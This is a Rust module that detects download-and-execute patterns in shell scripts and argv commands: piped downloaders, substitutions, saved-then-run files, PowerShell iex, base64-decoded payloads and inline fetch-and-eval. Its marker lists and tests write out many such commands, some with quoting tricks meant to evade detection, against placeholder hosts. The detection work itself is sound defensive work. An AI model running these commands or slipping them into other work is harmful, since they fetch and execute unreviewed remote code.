//! Download-and-execute detection in shell scripts and argv commands.
//!
//! A lifecycle command comes as a string (run by `/bin/sh -c`), an argv array (exec'd without a
//! shell) or an object of named entries of either kind. An argv can re-introduce a shell
//! (`["sh","-c","..."]`, `["/usr/bin/env","bash","-lc","..."]`, `["busybox","sh","-c",".."]`) or
//! another interpreter with inline code (`python -c`, `node -e`, `perl -e`, `pwsh -c`), so the
//! analyser unwraps argv into the script it really runs and analyses that.
//!
//! ```text
//! argv ──unwrap wrappers (env, sudo, busybox, nohup..)──> shell -c SCRIPT ──┐
//! string ───────────────────────────────────────────────────────────────────┴─> lex ─> commands
//!   commands: pipelines (`|`), substitutions (`$(..)`, `<(..)`, backticks), sequences (`;`, `&&`)
//!   patterns: downloader | interpreter · interpreter <(downloader) · interpreter "$(downloader)"
//!             downloader -o F ; interpreter F / ./F · iex (iwr ..) / Invoke-Expression
//! ```
//!
//! The lexer is deliberately forgiving: it never fails, it only has to find words and operators
//! well enough that quoting cannot hide a pattern. Recursion into nested scripts is bounded by
//! [`MAX_DEPTH`] so hostile nesting cannot exhaust the stack.

/// How deep nested scripts (`sh -c "sh -c '...'"`, `$( $( ) )`) are followed.
pub const MAX_DEPTH: usize = 8;

/// Which shape of download-and-execute was found.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum DownloadExecKind {
    /// `curl URL | sh`: a downloader's output piped into an interpreter.
    Pipe {
        /// The downloading program (`curl`, `wget`, ...).
        downloader: String,
        /// The interpreter at the end of the pipe (`sh`, `python3`, ...).
        interpreter: String,
    },
    /// `bash <(curl URL)`, `sh -c "$(curl URL)"`, `eval "$(wget -O- URL)"`.
    Substitution {
        /// The downloading program.
        downloader: String,
        /// The interpreter that runs the substituted text.
        interpreter: String,
    },
    /// `curl -o x URL && sh x` or `./x`: a download saved to a file that is then run.
    SavedThenRun {
        /// The downloading program.
        downloader: String,
        /// The file name (as written, not a secret: a path).
        file: String,
    },
    /// PowerShell `iex (iwr URL)`, `Invoke-Expression`, `.DownloadString(..)`.
    PowerShell,
    /// `echo PAYLOAD | base64 -d | sh`: encoded code decoded straight into an interpreter, so
    /// what runs cannot be read in the file.
    Decoded {
        /// The decoding program (`base64`, `xxd`, `openssl`, ...).
        decoder: String,
        /// The interpreter at the end of the pipe.
        interpreter: String,
    },
    /// Inline interpreter code (`python -c`, `node -e`, ...) that fetches and evaluates code.
    InlineCode {
        /// The interpreter.
        interpreter: String,
    },
}

impl DownloadExecKind {
    /// A short human description for finding messages (names programs, never URLs or arguments,
    /// which may carry tokens).
    pub fn describe(&self) -> String {
        match self {
            DownloadExecKind::Pipe {
                downloader,
                interpreter,
            } => format!("`{downloader}` output is piped into `{interpreter}`"),
            DownloadExecKind::Substitution {
                downloader,
                interpreter,
            } => format!("`{interpreter}` runs the output of `{downloader}` through substitution"),
            DownloadExecKind::SavedThenRun { downloader, file } => {
                format!("`{downloader}` saves `{file}`, which is then executed")
            }
            DownloadExecKind::Decoded {
                decoder,
                interpreter,
            } => format!("`{decoder}` decodes hidden code piped into `{interpreter}`"),
            DownloadExecKind::PowerShell => {
                "PowerShell Invoke-Expression runs downloaded content".to_string()
            }
            DownloadExecKind::InlineCode { interpreter } => {
                format!("inline `{interpreter}` code downloads and evaluates code")
            }
        }
    }
}

mod argv;
mod lex;

use super::ascii::find_ascii_ignore_case;
use argv::{basename, effective_start, interpreter_name, is_downloader, is_shell};
pub use argv::{inline_script, InlineScript};
use lex::{lex, split_commands, substitutions, Op};

/// Programs that decode hidden code (`echo … | base64 -d | sh`).
const DECODERS: &[&str] = &[
    "base64", "base32", "basenc", "openssl", "xxd", "uudecode", "gunzip", "zcat",
];

/// What inline interpreter code (`python -c`) calls to fetch a URL.
const FETCHES: &[&str] = &[
    "urlopen",
    "urllib",
    "requests.get",
    "http.get",
    "https.get",
    "fetch(",
    "lwp::",
    "get(",
    "open-uri",
    "net::http",
    "file_get_contents(\"http",
    "file_get_contents('http",
    "httpx.",
    "downloadstring",
];

/// PowerShell's ways to run a string as code.
const PS_EVALUATORS: &[&str] = &["iex", "invoke-expression", "scriptblock]::create"];

/// Characters that quoting and escaping remove from the text on the way to words.
fn removed(b: u8) -> bool {
    matches!(b, b'\'' | b'"' | b'\\' | b'\n' | b'\r')
}

/// Whether `text` (squeezed) starts with `marker`, whose own quotes do not count either.
fn starts_with_marker(text: &[u8], marker: &str) -> bool {
    marker
        .bytes()
        .filter(|&b| !removed(b))
        .enumerate()
        .all(|(at, m)| text.get(at) == Some(&m))
}

/// Whether the texts may hold a download-and-execute at all. Every shape needs a downloader,
/// a decoder, a PowerShell evaluator or an inline fetch among the words; the lexer only ever
/// removes characters (quotes, escapes, line continuations) to make words, so a marker that
/// is not in the text without them (ASCII lower case: `c''u\rl` is `curl`) is in no word,
/// nested script or substitution either. Most commands have none, and then the lexing and the
/// pattern search (20,000 instructions for a 50-byte command) are not needed.
fn may_download_or_decode<'a>(texts: impl IntoIterator<Item = &'a str>) -> bool {
    let mut squeezed = Vec::new();
    for text in texts {
        squeezed.clear();
        squeezed.extend(
            text.bytes()
                .filter(|&b| !removed(b))
                .map(|b| b.to_ascii_lowercase()),
        );
        for (i, pair) in squeezed.windows(2).enumerate() {
            // Two bytes rule out almost every position before any marker is compared.
            let bigram = usize::from(pair[0]) << 8 | usize::from(pair[1]);
            if MARKER_BIGRAMS[bigram / 64] & (1 << (bigram % 64)) == 0 {
                continue;
            }
            let rest = &squeezed[i..];
            if MARKER_LISTS
                .iter()
                .flat_map(|list| list.iter())
                .any(|marker| starts_with_marker(rest, marker))
            {
                return true;
            }
        }
    }
    false
}

/// Every marker list [`may_download_or_decode`] searches for.
const MARKER_LISTS: [&[&str]; 4] = [argv::DOWNLOADERS, DECODERS, FETCHES, PS_EVALUATORS];

/// The first two bytes (without quotes, lower case) of every marker, as a 65,536-bit set.
static MARKER_BIGRAMS: [u64; 1024] = {
    let mut set = [0u64; 1024];
    let mut l = 0;
    while l < MARKER_LISTS.len() {
        let list = MARKER_LISTS[l];
        let mut m = 0;
        while m < list.len() {
            let bytes = list[m].as_bytes();
            // the first two bytes that quoting does not remove (markers are lower case)
            let mut pair = [0u8; 2];
            let mut found = 0;
            let mut i = 0;
            while i < bytes.len() && found < 2 {
                if !matches!(bytes[i], b'\'' | b'"' | b'\\' | b'\n' | b'\r') {
                    pair[found] = bytes[i];
                    found += 1;
                }
                i += 1;
            }
            let bigram = (pair[0] as usize) << 8 | pair[1] as usize;
            set[bigram / 64] |= 1 << (bigram % 64);
            m += 1;
        }
        l += 1;
    }
    set
};

/// Analyses a command given as argv (exec'd without a shell).
pub fn analyse_argv(argv: &[String]) -> Option<DownloadExecKind> {
    if !may_download_or_decode(argv.iter().map(String::as_str)) {
        return None;
    }
    analyse_argv_depth(argv, 0)
}

fn analyse_argv_depth(argv: &[String], depth: usize) -> Option<DownloadExecKind> {
    if depth > MAX_DEPTH {
        return None;
    }
    let script = inline_script(argv)?;
    analyse_inline(&script, depth + 1)
}

fn analyse_inline(script: &InlineScript, depth: usize) -> Option<DownloadExecKind> {
    let shellish = is_shell(&script.interpreter) || script.interpreter == "cmd";
    let found = analyse_script_depth(&script.code, depth);
    if found.is_some() || shellish {
        return found;
    }
    // `os.system('curl x | sh')`, `child_process.execSync("curl x | sh")`: shell in a literal.
    if let Some(found) = string_literals(&script.code)
        .iter()
        .find_map(|lit| analyse_script_depth(lit, depth + 1))
    {
        return Some(found);
    }
    inline_code_fetch_and_eval(&script.code).then(|| DownloadExecKind::InlineCode {
        interpreter: script.interpreter.clone(),
    })
}

/// The contents of `'..'` and `".."` literals in inline code (no escape handling needed: a
/// missed literal only means a missed nested shell, which the fetch-and-eval check backs up).
fn string_literals(code: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = code;
    while let Some(start) = rest.find(['\'', '"']) {
        let quote = rest[start..].chars().next().unwrap_or('"');
        let body = &rest[start + 1..];
        match body.find(quote) {
            Some(end) => {
                out.push(body[..end].to_string());
                rest = &body[end + 1..];
            }
            None => break,
        }
    }
    out
}

/// Python/Node/Perl/Ruby one-liners that fetch a URL and evaluate the result.
fn inline_code_fetch_and_eval(code: &str) -> bool {
    let lower = code.to_ascii_lowercase();
    let fetches = FETCHES.iter().any(|p| lower.contains(p));
    let evaluates = [
        "exec(",
        "eval(",
        "eval ",
        "function(",
        "system(",
        "instance_eval",
        "iex",
    ]
    .iter()
    .any(|p| lower.contains(p));
    fetches && evaluates
}

/// Analyses a shell script (a string command, run by `/bin/sh -c`).
pub fn analyse_script(script: &str) -> Option<DownloadExecKind> {
    if !may_download_or_decode([script]) {
        return None;
    }
    analyse_script_depth(script, 0)
}

fn analyse_script_depth(script: &str, depth: usize) -> Option<DownloadExecKind> {
    if depth > MAX_DEPTH {
        return None;
    }
    if powershell_download_eval(script) {
        return Some(DownloadExecKind::PowerShell);
    }
    let tokens = lex(script);
    let commands = split_commands(tokens);
    // Pipelines: a downloader followed later in the same pipeline by an interpreter.
    let mut pipeline: Vec<&Vec<String>> = Vec::new();
    let mut downloaded: Vec<(String, String)> = Vec::new(); // (downloader, file)
    for (words, op) in &commands {
        pipeline.push(words);
        if *op != Op::Pipe {
            if let Some(kind) = pipe_pattern(&pipeline) {
                return Some(kind);
            }
            pipeline.clear();
        }
        // Substitutions elsewhere may hold whole scripts: `x=$(curl .. | sh)`.
        for word in words {
            for inner in substitutions(word) {
                if let Some(found) = analyse_script_depth(&inner, depth + 1) {
                    return Some(found);
                }
            }
        }
        let start = effective_start(words);
        let Some(program) = words.get(start) else {
            continue;
        };
        let args = &words[start + 1..];
        // Substitutions inside this command: `bash <(curl ..)`, `sh -c "$(curl ..)"`.
        if let Some(interpreter) = interpreter_name(program) {
            for arg in args {
                for inner in substitutions(arg) {
                    if let Some(downloader) = first_downloader(&inner) {
                        return Some(DownloadExecKind::Substitution {
                            downloader,
                            interpreter: interpreter.clone(),
                        });
                    }
                }
            }
            // A file saved earlier and run now: `sh x`, `bash /tmp/x`.
            if let Some(found) = runs_saved(args.iter().find(|a| !a.starts_with('-')), &downloaded)
            {
                return Some(found);
            }
            // Nested scripts: `bash -c "curl x | sh"`.
            if let Some(found) = analyse_argv_depth(&words[start..], depth + 1) {
                return Some(found);
            }
        } else if let Some(found) = runs_saved(Some(program), &downloaded) {
            return Some(found);
        }
        if is_downloader(program) {
            if let Some(file) = download_target(program, args) {
                downloaded.push((basename(program), file));
            }
        }
    }
    None
}

/// `echo PAYLOAD | base64 -d | sh`: a decoder's output piped into an interpreter hides the code
/// that runs from the reader.
fn decoded_pipe(pipeline: &[&Vec<String>]) -> Option<DownloadExecKind> {
    let first = pipeline.iter().position(|words| {
        let s = effective_start(words);
        let Some(program) = words.get(s) else {
            return false;
        };
        let args = &words[s + 1..];
        let decode = args.iter().any(|a| {
            matches!(
                a.as_str(),
                "-d" | "-D" | "--decode" | "-r" | "-a" | "enc" | "base64"
            )
        });
        let name = basename(program);
        DECODERS.contains(&name.as_str())
            && (decode || matches!(name.as_str(), "uudecode" | "gunzip" | "zcat"))
    })?;
    let decoder = {
        let words = pipeline[first];
        basename(words.get(effective_start(words))?)
    };
    pipeline[first + 1..].iter().find_map(|words| {
        let s = effective_start(words);
        let interpreter = interpreter_name(words.get(s)?)?;
        Some(DownloadExecKind::Decoded {
            decoder: decoder.clone(),
            interpreter,
        })
    })
}

fn pipe_pattern(pipeline: &[&Vec<String>]) -> Option<DownloadExecKind> {
    if let Some(found) = decoded_pipe(pipeline) {
        return Some(found);
    }
    let first = pipeline.iter().position(|words| {
        let s = effective_start(words);
        words.get(s).is_some_and(|w| is_downloader(w))
            || words.iter().any(|w| {
                substitutions(w)
                    .iter()
                    .any(|i| first_downloader(i).is_some())
            })
    })?;
    let downloader = {
        let words = pipeline[first];
        words
            .get(effective_start(words))
            .filter(|w| is_downloader(w))
            .map(|w| basename(w))
            .unwrap_or_else(|| "a downloader".to_string())
    };
    pipeline[first + 1..].iter().find_map(|words| {
        let s = effective_start(words);
        let interpreter = interpreter_name(words.get(s)?)?;
        Some(DownloadExecKind::Pipe {
            downloader: downloader.clone(),
            interpreter,
        })
    })
}

fn runs_saved(word: Option<&String>, downloaded: &[(String, String)]) -> Option<DownloadExecKind> {
    let word = word?;
    if downloaded.is_empty() {
        return None; // nothing saved yet: no need for the base name
    }
    let name = basename(word);
    downloaded
        .iter()
        .find(|(_, file)| !name.is_empty() && basename(file) == name)
        .map(|(downloader, file)| DownloadExecKind::SavedThenRun {
            downloader: downloader.clone(),
            file: basename(file),
        })
}

/// Where a downloader writes: `curl -o F`, `curl -O URL` (remote name), `wget URL` (remote name),
/// `wget -O F`, `Invoke-WebRequest -OutFile F`. `-` (stdout) is not a file.
fn download_target(program: &str, args: &[String]) -> Option<String> {
    let name = basename(program);
    let mut url = None;
    let mut remote_name = name == "wget";
    for (i, a) in args.iter().enumerate() {
        let next = || args.get(i + 1).cloned();
        let explicit = if let Some(file) = a.strip_prefix('>') {
            // `curl URL > file` (the lexer keeps an output redirection as `>file`).
            (!file.is_empty()).then(|| file.to_string())
        } else if a.eq_ignore_ascii_case("-outfile") {
            next()
        } else if let Some(file) = a
            .strip_prefix("--output=")
            .or_else(|| a.strip_prefix("--output-document="))
        {
            Some(file.to_string())
        } else if a == "--output" || a == "--output-document" {
            next()
        } else if a.starts_with('-') && !a.starts_with("--") && a.len() > 1 {
            let letters = &a[1..];
            match name.as_str() {
                // curl: `-o FILE` (possibly bundled as the last letter), `-O` remote name.
                "curl" => {
                    if letters.contains('O') {
                        remote_name = true;
                    }
                    letters.ends_with('o').then(next).flatten()
                }
                // wget: `-O FILE`, `-qO FILE`, `-qO-`, `-Ofile`; lower-case `-o` is the log.
                "wget" => letters.find('O').and_then(|at| {
                    let rest = &letters[at + 1..];
                    if rest.is_empty() {
                        next()
                    } else {
                        Some(rest.to_string())
                    }
                }),
                _ => None,
            }
        } else {
            if a == "--remote-name" {
                remote_name = true;
            }
            None
        };
        if let Some(file) = explicit {
            return (file != "-").then_some(file);
        }
        let lower = a.to_ascii_lowercase();
        if lower.starts_with("http://")
            || lower.starts_with("https://")
            || lower.starts_with("ftp://")
        {
            url = Some(a.clone());
        }
    }
    if remote_name {
        let url = url?;
        let path = url.split(['?', '#']).next().unwrap_or(&url);
        let file = path.rsplit('/').next().unwrap_or("");
        return (!file.is_empty()).then(|| file.to_string());
    }
    None
}

/// The first downloader executed by a script fragment (`curl -fsSL x`, `sudo wget -O- x`).
fn first_downloader(script: &str) -> Option<String> {
    let tokens = lex(script);
    split_commands(tokens).into_iter().find_map(|(words, _)| {
        let s = effective_start(&words);
        words
            .get(s)
            .filter(|w| is_downloader(w))
            .map(|w| basename(w))
    })
}

fn powershell_download_eval(script: &str) -> bool {
    // `evaluates` below needs one of these in the lower-cased text; most scripts have none, and
    // then the copy and the word split are not needed.
    if PS_EVALUATORS
        .iter()
        .all(|w| find_ascii_ignore_case(script, w, 0).is_none())
    {
        return false;
    }
    let lower = script.to_ascii_lowercase();
    let words: Vec<&str> = lower
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '.' || c == '_'))
        .filter(|w| !w.is_empty())
        .collect();
    let evaluates = words
        .iter()
        .any(|w| matches!(*w, "iex" | "invoke-expression"))
        || lower.contains("scriptblock]::create");
    let downloads = words.iter().any(|w| {
        matches!(
            *w,
            "iwr" | "irm" | "invoke-webrequest" | "invoke-restmethod" | "curl" | "wget"
        ) || w.ends_with(".downloadstring")
            || w.ends_with("net.webclient")
    }) || lower.contains("downloadstring(");
    evaluates && downloads
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn argv(items: &[&str]) -> Vec<String> {
        items.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn scripts_that_download_and_execute() {
        let cases = [
            "curl -fsSL https://x.example/install.sh | sh",
            "curl -fsSL https://x.example/install.sh | bash -s -- --yes",
            "wget -qO- https://x.example/i | sudo -E bash -",
            "wget -O - https://x.example/i|sh",
            "curl https://x.example/i | tee /tmp/log | sudo sh",
            "curl -s https://x.example/get.py | python3",
            "curl -s https://x.example/get.js | node",
            "curl -s https://x.example/get.pl | perl",
            "apt-get update && curl -fsSL https://deb.nodesource.com/setup_lts.x | sudo -E bash - && apt-get install -y nodejs",
            "bash <(curl -s https://x.example/i)",
            "sh -c \"$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)\"",
            "eval \"$(wget -qO- https://x.example/env)\"",
            "source <(curl -s https://x.example/env)",
            ". <(curl -s https://x.example/env)",
            "sh -c \"`curl -s https://x.example/i`\"",
            "curl -o /tmp/i.sh https://x.example/i.sh && sh /tmp/i.sh",
            "curl -fsSLO https://x.example/install.sh; bash install.sh",
            "curl -O https://x.example/install.sh; bash install.sh",
            "wget https://x.example/setup.sh && chmod +x setup.sh && ./setup.sh",
            "wget -O setup https://x.example/s\n./setup --now",
            "iex (iwr https://x.example/i.ps1)",
            "iex(New-Object Net.WebClient).DownloadString('https://x.example/i.ps1')",
            "Invoke-Expression (Invoke-WebRequest -Uri https://x.example/i.ps1).Content",
            "irm https://x.example/i.ps1 | iex",
            "bash -c 'curl -fsSL https://x.example/i | sh'",
            "sudo env FOO=1 bash -lc 'wget -qO- https://x.example | sh'",
            "x=$(curl -s https://x.example | sh)",
            "cd /tmp && ( curl -s https://x.example/i | sh )",
            "curl -s https://x.example/i | /bin/bash",
            "/usr/bin/curl -s https://x.example/i | /usr/bin/env bash",
            "curl -s https://x.example/i 2>/dev/null | sh",
            "python3 -c \"import urllib.request as u; exec(u.urlopen('https://x.example').read())\"",
        ];
        for case in cases {
            assert!(analyse_script(case).is_some(), "missed: {case}");
        }
    }

    #[test]
    fn the_marker_prefilter_never_hides_a_detection() {
        // Quoting and escaping that the lexer removes, around and inside the program names.
        let cases = [
            "c''url -fsSL https://x.example/i | s\\h",
            "\"cu\"rl https://x.example/i | sh",
            "C\\\nURL https://x.example/i | sh",
            "bash -c 'w\"g\"et -qO- x | sh'",
            "echo ZWNobyBoaQ== | b\\ase64 -d | sh",
            "I''EX (I''WR https://x.example/i.ps1)",
            "python3 -c \"exec(__import__('urllib.request').request.urlo''pen('x').read())\"",
        ];
        for case in cases {
            assert!(may_download_or_decode([case]), "prefilter hid: {case}");
            assert_eq!(
                analyse_script(case),
                analyse_script_depth(case, 0),
                "prefilter changed: {case}"
            );
        }
        assert!(analyse_script("c''url https://x.example/i | sh").is_some());
        assert!(!may_download_or_decode([
            "echo step 1 && ls -la /workspaces/1 | grep -v tmp"
        ]));
        // markers are lower case and at least two bytes long (the bigram set needs both)
        for marker in MARKER_LISTS.iter().flat_map(|l| l.iter()) {
            assert!(marker.len() >= 2 && !marker.bytes().any(|b| b.is_ascii_uppercase()));
        }
        assert!(!may_download_or_decode(
            argv(&["sh", "-c", "npm ci"]).iter().map(String::as_str)
        ));
    }

    #[test]
    fn harmless_scripts() {
        let cases = [
            "npm install && npm run build",
            "curl -fsSL https://x.example/key.gpg | sudo gpg --dearmor -o /usr/share/keyrings/x.gpg",
            "curl -s https://x.example/data.json | jq .",
            "wget -q https://x.example/archive.tar.gz && tar xf archive.tar.gz",
            "echo 'curl x | sh' > notes.txt",
            "bash ./scripts/setup.sh",
            "pip install -r requirements.txt",
            "git config --global --add safe.directory ${containerWorkspaceFolder}",
            "curl -o out.json https://x.example/api && cat out.json",
            "",
            "# curl x | sh",
        ];
        for case in cases {
            assert_eq!(analyse_script(case), None, "false positive: {case}");
        }
    }

    #[test]
    fn argv_forms() {
        let hits = [
            argv(&["sh", "-c", "curl x | sh"]),
            argv(&["/bin/bash", "-lc", "wget -qO- https://x | bash"]),
            argv(&["bash", "-o", "pipefail", "-c", "curl x | sh"]),
            argv(&["/usr/bin/env", "bash", "-c", "curl x | sh"]),
            argv(&["env", "A=1", "sh", "-c", "curl x | sh"]),
            argv(&["busybox", "sh", "-c", "wget -O- x | sh"]),
            argv(&["sudo", "-u", "root", "sh", "-c", "curl x | sh"]),
            argv(&["zsh", "-ec", "bash <(curl -s x)"]),
            argv(&["pwsh", "-Command", "iex (iwr https://x/i.ps1)"]),
            argv(&["powershell.exe", "-c", "irm https://x | iex"]),
            argv(&["python3", "-c", "import urllib.request;exec(urllib.request.urlopen('https://x').read())"]),
            argv(&["node", "-e", "require('https').get('https://x',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"]),
            argv(&["perl", "-e", "use LWP::Simple; eval(get('https://x'))"]),
            argv(&["python", "-c", "import os; os.system('curl https://x | sh')"]),
            argv(&["sh", "-c", "sh -c \"curl https://x | sh\""]),
            argv(&["cmd", "/c", "powershell -c \"iex (iwr https://x)\""]),
        ];
        for a in hits {
            assert!(analyse_argv(&a).is_some(), "missed: {a:?}");
        }
        let misses = [
            argv(&["curl", "https://x", "|", "sh"]),
            argv(&["sh", "./setup.sh"]),
            argv(&["bash", "-c", "npm ci"]),
            argv(&["python3", "-m", "pip", "install", "x"]),
            argv(&["node", "-e", "console.log(1)"]),
            argv(&[]),
        ];
        for a in misses {
            assert_eq!(analyse_argv(&a), None, "false positive: {a:?}");
        }
    }

    #[test]
    fn inline_script_extraction() {
        let s = inline_script(&argv(&["/bin/sh", "-c", "echo hi", "arg0"])).unwrap();
        assert_eq!((s.interpreter.as_str(), s.code.as_str()), ("sh", "echo hi"));
        let s = inline_script(&argv(&["python3.11", "-c", "print(1)"])).unwrap();
        assert_eq!(s.interpreter, "python3.11");
        let s = inline_script(&argv(&["node", "--eval=1+1"])).unwrap();
        assert_eq!(s.code, "1+1");
        assert_eq!(inline_script(&argv(&["sh", "script.sh"])), None);
        assert_eq!(inline_script(&argv(&["ls", "-c"])), None);
    }

    #[test]
    fn descriptions_name_programs_only() {
        let kind = analyse_script("curl -H 'Authorization: token SECRET' https://x | sh").unwrap();
        let text = kind.describe();
        assert!(text.contains("curl") && text.contains("sh") && !text.contains("SECRET"));
    }

    #[test]
    fn deep_nesting_is_bounded() {
        let mut script = "curl x | sh".to_string();
        for _ in 0..10 {
            script = format!("sh -c {}", shell_quote(&script));
        }
        // Must terminate; beyond MAX_DEPTH the pattern is not followed.
        let _ = analyse_script(&script);
        let deep = "$(".repeat(10_000);
        assert_eq!(analyse_script(&deep), None);
    }

    fn shell_quote(s: &str) -> String {
        format!("'{}'", s.replace('\'', "'\\''"))
    }
}
